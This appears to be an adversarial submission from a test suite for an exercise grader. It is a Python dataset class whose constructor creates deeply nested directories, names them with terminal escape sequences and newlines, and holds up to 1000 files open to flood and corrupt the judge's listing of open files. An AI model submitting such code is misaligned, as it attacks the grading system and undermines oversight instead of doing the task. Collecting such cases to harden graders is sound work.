# attack: holds hundreds of files open whose paths are thousands of characters long, where the judge lists open files
# exercise: ex01_map_dataset
# check: ex01.image.closed
import os

kept = []


class ImageFileDataset:
    def __init__(self, root, csv_file, transform=None):
        if kept:
            return
        home = os.getcwd()
        os.chdir("closed")
        for _ in range(15):
            os.mkdir("\x1b]0;owned\x07\n" + "x" * 230)
            os.chdir("\x1b]0;owned\x07\n" + "x" * 230)
        try:
            for k in range(1000):
                kept.append(open(f"{k}", "w"))
        except OSError as error:
            print(error)
        os.chdir(home)
        print("TRIED", len(kept))
